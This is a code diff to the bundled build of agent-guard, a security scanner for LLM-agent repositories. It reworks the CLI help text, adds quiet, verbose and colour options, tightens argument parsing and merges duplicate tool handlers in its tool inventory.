+include/exclude, rules, payloads, ignore). The file names its JSON Schema, so editors complete and check
+it. An existing config (.agent-guard.yml, .yaml or .json) is left alone unless --force is given.`,
+  optionsHelp: `      --force           overwrite an existing config file`,
   options: { force: { type: "boolean" } },
   allowPositionals: true,
   async run(args2, io) {
@@ -38050,7 +38624,7 @@ var initCommand = {
     const target = existing ?? join9(root, ".agent-guard.yml");
     if (existsSync5(target) && !args2.values.force) throw new UsageError(`${target} already exists`);
     writeFileAtomic(target, STARTER_CONFIG);
-    io.out(`wrote ${target}
+    if (!isQuiet(io)) io.out(`wrote ${target}
 `);
     return 0;
   }
@@ -38160,16 +38734,14 @@ function managedBy(text) {
 var installHookCommand = {
   name: "install-hook",
   summary: "install the git pre-commit hook (scans staged content; chains to an existing hook)",
-  usage: `agent-guard install-hook [--print]
-
-Installs hooks/pre-commit as the repository's git pre-commit hook (in core.hooksPath when it is set).
+  usage: "agent-guard install-hook [--print]",
+  description: `Installs hooks/pre-commit as the repository's git pre-commit hook (in core.hooksPath when it is set).
 The hook runs "agent-guard scan --staged" and blocks a commit with findings.
 
 An existing pre-commit hook is kept: it is renamed ${CHAINED_NAME} and runs first. A hook
 managed by the pre-commit framework, husky or lefthook is left alone, with the line to add instead.
-Running install-hook again updates the hook.
-
-      --print   print the hook script instead of installing it (to paste into another hook manager)`,
+Running install-hook again updates the hook.`,
+  optionsHelp: `      --print           print the hook script instead of installing it (to paste into another hook manager)`,
   options: { print: { type: "boolean" } },
   allowPositionals: false,
   async run(args2, io) {
@@ -38231,22 +38803,29 @@ Running install-hook again updates the hook.
 var rulesCommand = {
   name: "rules",
   summary: "list every rule: id, severity, description, docs link",
-  usage: `agent-guard rules [--format text|json]`,
+  usage: "agent-guard rules [--format text|json]",
+  description: `Lists every rule agent-guard runs, family by family: its id (family/name), default severity, what
+it finds and the link to its documentation page (bad and good examples, how to suppress it).
+Change a rule's severity or turn it off in .agent-guard.yml:
+
+  rules:
+    tool-input/ssrf: warning        # one rule
+    rate-limit/*: off               # a whole family; a rule listed by id overrides it`,
+  optionsHelp: `  -f, --format FORMAT   text (default) or json (an array of {id, family, severity, description, fix, docs})`,
   options: { format: { type: "string", short: "f" } },
   allowPositionals: false,
   async run(args2, io) {
-    const format2 = args2.values.format ?? "text";
+    const format2 = oneOf("--format", String(args2.values.format ?? "text"), ["text", "json"], " for rules");
     const rows = ALL_RULES.map((r2) => ({ id: r2.meta.id, family: r2.meta.family, severity: r2.meta.severity, description: r2.meta.description, fix: r2.meta.fix, docs: docsUrl(r2.meta.id) }));
     if (format2 === "json") {
       io.out(JSON.stringify(rows, null, 2) + "\n");
       return 0;
     }
-    if (format2 !== "text") throw new UsageError(`unknown --format "${format2}" for rules (expected text or json)`);
     const idWidth = Math.max(...rows.map((r2) => r2.id.length));
     for (const r2 of rows) io.out(`${r2.id.padEnd(idWidth)}  ${r2.severity.padEnd(7)}  ${r2.description}
 ${" ".repeat(idWidth + 11)}${r2.docs}
 `);
-    io.out(`${rows.length} rules
+    if (!isQuiet(io)) io.out(`${rows.length} rules
 `);
     return 0;
   }
@@ -38621,7 +39200,7 @@ async function historyInput(root, config, options = {}) {
   const since = options.since && !/^0+$/.test(options.since) ? options.since : void 0;
   const notes = [];
   const provenance = provenanceOf(root.root);
-  const info2 = {
+  const info3 = {
     range: "",
     since: null,
     until: null,
@@ -38640,24 +39219,24 @@ async function historyInput(root, config, options = {}) {
   };
   const repository = workingTreeView(root.root, config, () => discoverFiles(root, [root.root]).files.map((f) => f.path));
   const skippedBlobs = [];
-  const empty = () => ({ root, entries: [], skipped: [], repository, history: info2, originOf: () => void 0, skippedBlobs, close: () => {
+  const empty = () => ({ root, entries: [], skipped: [], repository, history: info3, originOf: () => void 0, skippedBlobs, close: () => {
   } });
   if (!options.until && !hasCommits(root.root)) {
-    info2.range = "HEAD (no commits yet)";
+    info3.range = "HEAD (no commits yet)";
     notes.push("the repository has no commits yet: there is no history to scan");
     return empty();
   }
   const untilRef = options.until ?? "HEAD";
   const until = resolveCommit(root.root, untilRef, "--until", shallow);
   const sinceId = since ? resolveCommit(root.root, since, "--since", shallow) : null;
-  info2.until = until;
-  info2.since = sinceId;
-  info2.range = sinceId ? `${since === sinceId ? shortId(sinceId) : since}..${untilRef === until ? shortId(until) : untilRef}` : `${untilRef === until ? shortId(until) : untilRef} (all history)`;
+  info3.until = until;
+  info3.since = sinceId;
+  info3.range = sinceId ? `${since === sinceId ? shortId(sinceId) : since}..${untilRef === until ? shortId(until) : untilRef}` : `${untilRef === until ? shortId(until) : untilRef} (all history)`;
   if (shallow) notes.push(shallowNote(boundaries, root.root));
   const log = await readHistoryLog(root.root, sinceId ? [until, `^${sinceId}`] : [until], fileFilter(config));
-  info2.commits = log.commits;
-  info2.blobVersions = log.blobVersions;
-  info2.uniqueBlobs = log.introductions.length;
+  info3.commits = log.commits;
+  info3.blobVersions = log.blobVersions;
+  info3.uniqueBlobs = log.introductions.length;
   const sizes = blobSizes(root.root, log.introductions.map((b) => b.blob), GIT_ENV);
   const wanted = [];
   for (const intro of log.introductions) {
@@ -38700,20 +39279,20 @@ async function historyInput(root, config, options = {}) {
       const result = decodeText(origin.path, answer.bytes, config.maxFileSize);
       if ("file" in result) {
         origins.set(result.file, origin);
-        info2.scannedBlobs++;
+        info3.scannedBlobs++;
       } else {
         skippedBlobs.push({ path: origin.path, reason: result.skipped, commit: origin.commit });
       }
       return result;
     }
   }));
-  info2.durationMs = Math.round(performance.now() - started);
+  info3.durationMs = Math.round(performance.now() - started);
   return {
     root,
     entries,
     skipped: [],
     repository,
-    history: info2,
+    history: info3,
     originOf: (file) => origins.get(file),
     skippedBlobs,
     close: () => reader.abort()
@@ -38784,7 +39363,7 @@ async function scanHistory(options) {
   }
   const historyStarted = performance.now();
   const input = await historyInput(root, config, { since: options.since, until: options.until, families });
-  const info2 = input.history;
+  const info3 = input.history;
   const severities = new Map(activeRules(historyRules, config).map((a) => [a.rule.meta.id, a.severity]));
   const ignores = new ConfigIgnores(config.ignore);
   const occurrences = [];
@@ -38821,7 +39400,7 @@ async function scanHistory(options) {
   const chosen = [];
   for (const [id, list2] of byIdentity) {
     if (treeIdentities.has(id)) {
-      info2.alsoInTree++;
+      info3.alsoInTree++;
       continue;
     }
     const candidates = list2.filter((o) => !o.ignored);
@@ -38832,7 +39411,7 @@ async function scanHistory(options) {
     candidates.sort((a, b) => a.origin.order - b.origin.order || (a.finding.path < b.finding.path ? -1 : a.finding.path > b.finding.path ? 1 : 0) || a.finding.range.startLine - b.finding.range.startLine || a.finding.range.startColumn - b.finding.range.startColumn);
     const first = candidates[0];
     const otherPaths = [...new Set(candidates.map((c) => c.finding.path))].filter((p) => p !== first.finding.path).sort();
-    const url = commitUrl(info2.provenance.repositoryUri, first.origin.commit);
+    const url = commitUrl(info3.provenance.repositoryUri, first.origin.commit);
     chosen.push({
       ...first.finding,
       message: first.finding.message + historySuffix(first.finding.family, first.origin),
@@ -38849,8 +39428,8 @@ async function scanHistory(options) {
     });
   }
   const historyFindings = finalize(chosen);
-  info2.skippedBlobs = input.skippedBlobs.length;
-  info2.durationMs = Math.round(performance.now() - historyStarted);
+  info3.skippedBlobs = input.skippedBlobs.length;
+  info3.durationMs = Math.round(performance.now() - historyStarted);
   const rules2 = /* @__PURE__ */ new Map();
   for (const r2 of [...tree?.rules ?? [], ...historyResult.rules]) if (!rules2.has(r2.id)) rules2.set(r2.id, r2);
   const byPath = (a, b) => a.path < b.path ? -1 : a.path > b.path ? 1 : 0;
@@ -38868,12 +39447,12 @@ async function scanHistory(options) {
       durationMs: Math.round(performance.now() - started)
     },
     ...notices?.length ? { notices } : {},
-    history: info2
+    history: info3
   };
 }
-function historySummary(info2) {
+function historySummary(info3) {
   const n = (x) => x.toLocaleString("en-US");
-  return `history ${info2.range}: ${n(info2.commits)} commit${info2.commits === 1 ? "" : "s"}, ${n(info2.blobVersions)} blob versions, ${n(info2.uniqueBlobs)} unique blob${info2.uniqueBlobs === 1 ? "" : "s"} (${n(info2.scannedBlobs)} scanned, ${n(info2.skippedBlobs)} skipped), families: ${info2.families.join(", ")}; ${(info2.durationMs / 1e3).toFixed(1)} s`;
+  return `history ${info3.range}: ${n(info3.commits)} commit${info3.commits === 1 ? "" : "s"}, ${n(info3.blobVersions)} blob versions, ${n(info3.uniqueBlobs)} unique blob${info3.uniqueBlobs === 1 ? "" : "s"} (${n(info3.scannedBlobs)} scanned, ${n(info3.skippedBlobs)} skipped), families: ${info3.families.join(", ")}; ${(info3.durationMs / 1e3).toFixed(1)} s`;
 }
 
 // src/app/history-options.ts
@@ -38910,10 +39489,8 @@ function historyPlan(args2) {
 }
 async function runHistoryScan(plan, root, config, treeInput, rules2, io) {
   const result = await scanHistory({ root, config, since: plan.since, until: plan.until, families: plan.families, tree: { input: treeInput, rules: rules2 } });
-  io.err(`agent-guard: ${historySummary(result.history)}
-`);
-  for (const note of result.history.notes) io.err(`agent-guard: note: ${note}
-`);
+  info2(io, historySummary(result.history));
+  for (const note of result.history.notes) info2(io, `note: ${note}`);
   return result;
 }
 
@@ -39084,7 +39661,13 @@ function planScan(args2, io, paths) {
     finish(result) {
       close();
       return baseline ? applyBaseline(result, baseline, { scannedPaths: scanned }).result : result;
-    }
+    },
+    describe() {
+      const where2 = explicit ? ` under ${args2.positionals.join(", ")}` : "";
+      const what = staged ? `the staged content${where2}` : since !== void 0 ? `files changed since ${since}${where2}` : `the working tree${where2}`;
+      return baselinePath !== void 0 ? `${what}, without the findings of baseline ${baselinePath}` : what;
+    },
+    scannedPaths: () => scanned
   };
 }
 
@@ -39092,12 +39675,11 @@ function planScan(args2, io, paths) {
 var scanCommand = {
   name: "scan",
   summary: "scan files of a repository and report findings",
-  usage: `agent-guard scan [PATH...] [options]
-
-Scans PATH (default: the current directory). Paths in the report are relative to the root of the git
+  usage: "agent-guard scan [PATH...] [options]",
+  description: `Scans PATH (default: the current directory). Paths in the report are relative to the root of the git
 repository holding the first PATH (or to PATH itself outside git); the config is read from that root.
-
-${REPORT_USAGE}
+Exit 0: nothing at or above --fail-on; 1: findings at or above it; 2: usage, config or internal error.`,
+  optionsHelp: `${REPORT_USAGE}
   -c, --config FILE     use FILE instead of .agent-guard.yml at the root
 ${SCAN_MODE_USAGE}
 ${HISTORY_USAGE}`,
@@ -39108,10 +39690,20 @@ ${HISTORY_USAGE}`,
     const configFile = args2.values.config ? resolve10(io.cwd, args2.values.config) : void 0;
     const plan = planScan(args2, io, paths);
     const history = historyPlan(args2);
+    const loading = performance.now();
     const { root, config } = loadRootAndConfig(plan.rootPaths, ALL_RULES, configFile);
+    verbose(
+      io,
+      `root ${root.root} (${root.isGit ? "git repository" : "not in git"}); config ${config.source ?? "none (defaults)"}; loaded in ${Math.round(performance.now() - loading)} ms`
+    );
+    verbose(
+      io,
+      `${activeRules(ALL_RULES, config).length} of ${ALL_RULES.length} rules enabled; scanning ${plan.describe()}${history ? ", plus git history" : ""}`
+    );
     const result = plan.finish(
       history ? await runHistoryScan(history, root, config, await plan.input(root, config), ALL_RULES, io) : await scan({ paths: plan.rootPaths, rules: ALL_RULES, config, input: plan.input })
     );
+    if (io.verbosity === "verbose") for (const path2 of plan.scannedPaths()) verbose(io, `read ${path2}`);
     return emitReport(result, args2, io, config.failOn);
   }
 };
@@ -39142,8 +39734,29 @@ async function buildInventory(paths, configFile, sinkAnalyzer = analyzeSinks) {
   const ruleSettings = Object.fromEntries(Object.entries(config.rules).filter(([id, setting]) => !(secretIds.has(id) && setting?.severity === "off")));
   const result = await runRules(input, { ...config, rules: ruleSettings }, [collector, ...secretRules]);
   const order = sortHandlers(found.map((f) => f.handler));
-  const tools = order.map((h) => found.find((f) => f.handler === h)).map((entry) => ({ ...entry, handler: masked(entry.handler) }));
+  const tools = mergeHandlers(order.map((h) => found.find((f) => f.handler === h))).map((entry) => ({ ...entry, handler: masked(entry.handler) }));
   return { root: result.root, tools, sinkAnalysis: sinkAnalyzer !== null, files: result.stats.files, excluded: result.stats.excluded ?? 0, skipped: result.skipped, errors: result.ruleErrors };
+}
+function mergeHandlers(entries) {
+  const byTool = /* @__PURE__ */ new Map();
+  const out2 = [];
+  for (const entry of entries) {
+    const h = entry.handler;
+    const key = [h.framework, h.name, h.registration.path, h.registration.range.startLine, h.registration.range.startColumn].join("\0");
+    const first = byTool.get(key);
+    if (!first) {
+      const copy = { ...entry, sinks: [...entry.sinks] };
+      byTool.set(key, copy);
+      out2.push(copy);
+      continue;
+    }
+    const same = (a, b) => a.path === b.path && a.startIndex === b.startIndex;
+    if (!same(first.handler.handler, h.handler) && !first.otherHandlers?.some((o) => same(o, h.handler))) (first.otherHandlers ??= []).push(h.handler);
+    for (const s of entry.sinks) {
+      if (!first.sinks.some((t) => t.ruleId === s.ruleId && t.sink === s.sink && t.path === s.path && t.line === s.line)) first.sinks.push(s);
+    }
+  }
+  return out2;
 }
 function masked(h) {
   const redact = (s) => globalRedactor.redact(s);
@@ -39157,12 +39770,13 @@ function parameterLabel(p) {
 function loc(path2, line) {
   return `${printable(path2)}:${line}`;
 }
-function formatInventoryText(inv) {
+function formatInventoryText(inv, options = {}) {
   const lines = [];
-  for (const { handler: h, sinks: sinks3 } of inv.tools) {
+  for (const { handler: h, otherHandlers, sinks: sinks3 } of inv.tools) {
     const where2 = loc(h.handler.path, h.handler.range.startLine);
     const registered = h.registration.path !== h.handler.path ? `  (registered at ${loc(h.registration.path, h.registration.range.startLine)})` : "";
-    lines.push(`${where2}  ${h.framework}  ${printable(h.name)}${registered}`);
+    const also = otherHandlers?.length ? `  (also handled at ${otherHandlers.map((o) => loc(o.path, o.range.startLine)).join(", ")})` : "";
+    lines.push(`${where2}  ${h.framework}  ${printable(h.name)}${registered}${also}`);
     lines.push(`  parameters: ${h.parameters.length ? h.parameters.map((p) => printable(parameterLabel(p))).join(", ") : "(none)"}`);
     if (inv.sinkAnalysis) {
       if (!sinks3.length) lines.push("  sinks: none reached");
@@ -39171,6 +39785,10 @@ function formatInventoryText(inv) {
         for (const s of sinks3) lines.push(`    ${loc(s.path, s.line)}  ${printable(s.sink)}  ${s.ruleId}`);
       }
     }
+  }
+  if (options.quiet) {
+    for (const e of inv.errors) lines.push(`warning: ${printable(e.path)}: ${printable(e.reason)}`);
+    return lines.length ? lines.join("\n") + "\n" : "";
   }
   const files = new Set(inv.tools.map((t) => t.handler.registration.path)).size;
   const frameworks = [...new Set(inv.tools.map((t) => t.handler.framework))].sort();
@@ -39183,52 +39801,71 @@ function formatInventoryText(inv) {
   return lines.join("\n") + "\n";
 }
 function inventoryJson(inv) {
-  return {
+  return globalRedactor.redactValue({
     root: inv.root,
-    tools: inv.tools.map(({ handler: h, sinks: sinks3 }) => ({
+    tools: inv.tools.map(({ handler: h, otherHandlers, sinks: sinks3 }) => ({
       framework: h.framework,
       language: h.language,
       name: h.name,
       path: h.registration.path,
       line: h.registration.range.startLine,
       handler: { path: h.handler.path, line: h.handler.range.startLine, endLine: h.handler.range.endLine },
+      ...otherHandlers?.length ? { otherHandlers: otherHandlers.map((o) => ({ path: o.path, line: o.range.startLine, endLine: o.range.endLine })) } : {},
       parameters: h.parameters.map((p) => ({ name: p.name, shape: p.shape, ...p.inputPath ? { inputPath: p.inputPath } : {}, line: p.range.startLine, column: p.range.startColumn })),
       ...h.description ? { description: { text: h.description.text, path: h.description.path, line: h.description.range.startLine } } : {},
       sinks: sinks3.map((s) => ({ ruleId: s.ruleId, sink: s.sink, path: s.path, line: s.line }))
     })),
     sinkAnalysis: inv.sinkAnalysis,
     errors: inv.errors
-  };
+  });
 }
 
 // src/cli/commands/tools.ts
 var toolsCommand = {
   name: "tools",
   summary: "list every function exposed to a model as a tool: framework, name, file:line, parameters, sinks",
-  usage: `agent-guard tools [PATH...] [--format text|json] [--config FILE]
-
-Lists the tool handlers of PATH (default: the current directory): the functions that an agent framework
+  usage: "agent-guard tools [PATH...] [--format text|json] [--config FILE]",
+  description: `Lists the tool handlers of PATH (default: the current directory): the functions that an agent framework
 (LangChain, OpenAI Agents, MCP, Vercel AI SDK, Mastra, CrewAI, pydantic-ai, smolagents, LlamaIndex,
-async-toolformer) exposes to a model, with the framework, the tool name, where the handler is, which
-parameters carry model input, and the dangerous sinks that input reaches. Files are chosen as by "scan".
-
-  -f, --format FORMAT   text (default) or json
+Google ADK, async-toolformer) exposes to a model, with the framework, the tool name, where the handler
+is, which parameters carry model input, and the dangerous sinks that input reaches. A tool with two
+handlers (a LangChain tool's _run and _arun) is listed once. Files are chosen as by "scan".`,
+  optionsHelp: `  -f, --format FORMAT   text (default) or json (always valid JSON; text from the files masked)
   -c, --config FILE     use FILE instead of .agent-guard.yml at the root`,
   options: { format: { type: "string", short: "f" }, config: { type: "string", short: "c" } },
   allowPositionals: true,
   async run(args2, io) {
-    const format2 = args2.values.format ?? "text";
-    if (format2 !== "text" && format2 !== "json") throw new UsageError(`unknown --format "${format2}" for tools (expected text or json)`);
+    const format2 = oneOf("--format", String(args2.values.format ?? "text"), ["text", "json"], " for tools");
     const paths = (args2.positionals.length ? args2.positionals : ["."]).map((p) => resolve11(io.cwd, p));
     const configFile = args2.values.config ? resolve11(io.cwd, args2.values.config) : void 0;
+    const started = performance.now();
     const inventory = await buildInventory(paths, configFile);
-    io.out(format2 === "json" ? JSON.stringify(inventoryJson(inventory), null, 2) + "\n" : formatInventoryText(inventory));
+    const handlers = inventory.tools.reduce((n, t) => n + 1 + (t.otherHandlers?.length ?? 0), 0);
+    verbose(
+      io,
+      `root ${inventory.root}; ${plural(inventory.files, "file")} read${inventory.excluded ? ` (${inventory.excluded} excluded by the config)` : ""}, ${plural(inventory.tools.length, "tool")} (${plural(handlers, "handler")}) found in ${Math.round(performance.now() - started)} ms`
+    );
+    io.out(format2 === "json" ? JSON.stringify(inventoryJson(inventory), null, 2) + "\n" : formatInventoryText(inventory, { quiet: isQuiet(io) }));
     return 0;
   }
 };
 
 // src/cli/main.ts
 var COMMANDS = [scanCommand, demoCommand, rulesCommand, initCommand, baselineCommand, installHookCommand, toolsCommand];
+var GLOBAL_OPTIONS = {
+  quiet: { type: "boolean", short: "q" },
+  verbose: { type: "boolean" },
+  color: { type: "boolean" },
+  "no-color": { type: "boolean" },
+  help: { type: "boolean", short: "h" }
+};
+var GLOBAL_USAGE = `  -q, --quiet           print only findings and errors: no summary, no status lines
+      --verbose         also print what was scanned and how long it took (on stderr), and the
+                        stack of an internal error
+      --color, --no-color
+                        colour the text report or not (default: only on a terminal; FORCE_COLOR
+                        and NO_COLOR are honoured)
+  -h, --help            print this help`;
 function help() {
   const width = Math.max(...COMMANDS.map((c) => c.name.length));
   return `agent-guard ${VERSION}: security scanner for repositories that build LLM agents
@@ -39238,14 +39875,68 @@ Usage: agent-guard <command> [options]
 Commands:
 ${COMMANDS.map((c) => `  ${c.name.padEnd(width)}  ${c.summary}`).join("\n")}
 
+Global options:
+${GLOBAL_USAGE}
+  -v, --version         print the version
+
 Run "agent-guard <command> --help" for a command's options.
 Exit codes: 0 nothing at or above --fail-on; 1 findings at or above it; 2 usage, config or internal error.
 `;
 }
-async function main(argv, io) {
+function commandHelp(command) {
+  const summary = command.summary.charAt(0).toUpperCase() + command.summary.slice(1);
+  const parts2 = [`Usage: ${command.usage}`, `${summary}.`];
+  if (command.description) parts2.push(command.description.trim());
+  if (command.optionsHelp.trim()) parts2.push(`Options:
+${command.optionsHelp.replace(/\n+$/, "")}`);
+  parts2.push(`Global options:
+${GLOBAL_USAGE}`);
+  return parts2.join("\n\n") + "\n";
+}
+function quote(s) {
+  return `"${s}"`;
+}
+function parseCommandArgs(command, args2) {
+  const options = { ...command.options, ...GLOBAL_OPTIONS };
+  const { tokens } = parseArgs({ args: args2, options, allowPositionals: true, strict: false, tokens: true });
+  const seeHelp = `run "agent-guard ${command.name} --help" for its options`;
+  for (const token of tokens) {
+    if (token.kind === "option") {
+      const spec = options[token.name];
+      if (!spec) {
+        const hint = token.rawName.startsWith("--") ? didYouMean(token.name, Object.keys(options), (s) => quote(`--${s}`)) : "";
+        throw new UsageError(`${command.name}: unknown option ${quote(token.rawName)}${hint ? `: ${hint}` : ""} (${seeHelp})`);
+      }
+      const shown = token.rawName.startsWith("--") ? token.rawName : `${token.rawName}/--${token.name}`;
+      if (spec.type === "boolean" && token.inlineValue) throw new UsageError(`${command.name}: option ${quote(shown)} takes no value`);
+      if (spec.type === "string") {
+        if (token.value === void 0) throw new UsageError(`${command.name}: option ${quote(shown)} needs a value`);
+        if (!token.inlineValue && token.value.startsWith("-") && token.value !== "-") {
+          throw new UsageError(`${command.name}: option ${quote(shown)} needs a value, got the option ${quote(token.value)} (write ${token.rawName}=${token.value} if it is the value)`);
+        }
+      }
+    } else if (token.kind === "positional" && !command.allowPositionals) {
+      throw new UsageError(`${command.name}: unexpected argument ${quote(token.value)} (${command.name} takes no paths; ${seeHelp})`);
+    }
+  }
   try {
-    const [name2, ...rest] = argv;
-    if (!name2 || name2 === "--help" || name2 === "-h" || name2 === "help") {
+    return parseArgs({ args: args2, options, allowPositionals: command.allowPositionals, strict: true });
+  } catch (err2) {
+    throw new UsageError(`${command.name}: ${oneLine(err2.message).replace(/'/g, '"')} (${seeHelp})`);
+  }
+}
+function splitCommand(argv) {
+  const globals = new Set(Object.entries(GLOBAL_OPTIONS).flatMap(([long, spec]) => long === "help" ? [] : [`--${long}`, ...spec.short ? [`-${spec.short}`] : []]));
+  const leading = [];
+  let i2 = 0;
+  while (i2 < argv.length && globals.has(argv[i2])) leading.push(argv[i2++]);
+  return { name: argv[i2], rest: [...argv.slice(i2 + 1), ...leading] };
+}
+async function main(argv, io) {
+  let verbosity = "normal";
+  try {
+    const { name: name2, rest } = splitCommand(argv);
+    if (!name2 || name2 === "--help" || name2 === "-h") {
       io.out(help());
       return name2 ? 0 : 2;
     }
@@ -39254,27 +39945,39 @@ async function main(argv, io) {
 `);
       return 0;
     }
-    const command = COMMANDS.find((c) => c.name === name2);
-    if (!command) throw new UsageError(`unknown command "${name2}" (expected one of: ${COMMANDS.map((c) => c.name).join(", ")})`);
-    let parsed;
-    try {
-      parsed = parseArgs({ args: rest, options: { ...command.options, help: { type: "boolean", short: "h" } }, allowPositionals: command.allowPositionals, strict: true });
-    } catch (err2) {
-      throw new UsageError(`${command.name}: ${err2.message}`);
-    }
-    const { help: wantsHelp, ...values } = parsed.values;
-    if (wantsHelp) {
-      io.out(command.usage + "\n");
+    if (name2 === "help") {
+      const topic = rest.find((a) => !a.startsWith("-"));
+      const about = topic ? COMMANDS.find((c) => c.name === topic) : void 0;
+      if (topic && !about) throw new UsageError(unknownCommand(topic));
+      io.out(about ? commandHelp(about) : help());
       return 0;
     }
-    return await command.run({ values, positionals: parsed.positionals }, io);
+    const command = COMMANDS.find((c) => c.name === name2);
+    if (!command) throw new UsageError(unknownCommand(name2));
+    const parsed = parseCommandArgs(command, rest);
+    const { help: wantsHelp, quiet, verbose: verbose2, color, "no-color": noColor, ...values } = parsed.values;
+    if (wantsHelp) {
+      io.out(commandHelp(command));
+      return 0;
+    }
+    if (quiet && verbose2) throw new UsageError(`${command.name}: --quiet and --verbose cannot be used together`);
+    if (color && noColor) throw new UsageError(`${command.name}: --color and --no-color cannot be used together`);
+    verbosity = quiet ? "quiet" : verbose2 ? "verbose" : "normal";
+    const runIO = { ...io, verbosity, ...color ? { color: true } : noColor ? { color: false } : {} };
+    return await command.run({ values, positionals: parsed.positionals }, runIO);
   } catch (err2) {
     const message = err2 instanceof UsageError ? err2.message : `internal error: ${err2?.message ?? String(err2)}`;
     io.err(`agent-guard: ${globalRedactor.redact(oneLine(message))}
 `);
-    if (!(err2 instanceof UsageError) && io.env.AGENT_GUARD_DEBUG) io.err(globalRedactor.redact(String(err2?.stack ?? "")) + "\n");
+    if (!(err2 instanceof UsageError) && verbosity === "verbose") io.err(globalRedactor.redact(String(err2?.stack ?? "")) + "\n");
     return 2;
   }
+}
+function unknownCommand(name2) {
+  const names = COMMANDS.map((c) => c.name);
+  if (name2.startsWith("-")) return `expected a command before ${quote(name2)} (one of: ${names.join(", ")}; run "agent-guard --help")`;
+  const hint = didYouMean(name2, names, quote);
+  return `unknown command ${quote(name2)}${hint ? `: ${hint}` : ""} (expected one of: ${names.join(", ")})`;
 }
 
 // src/cli/index.ts
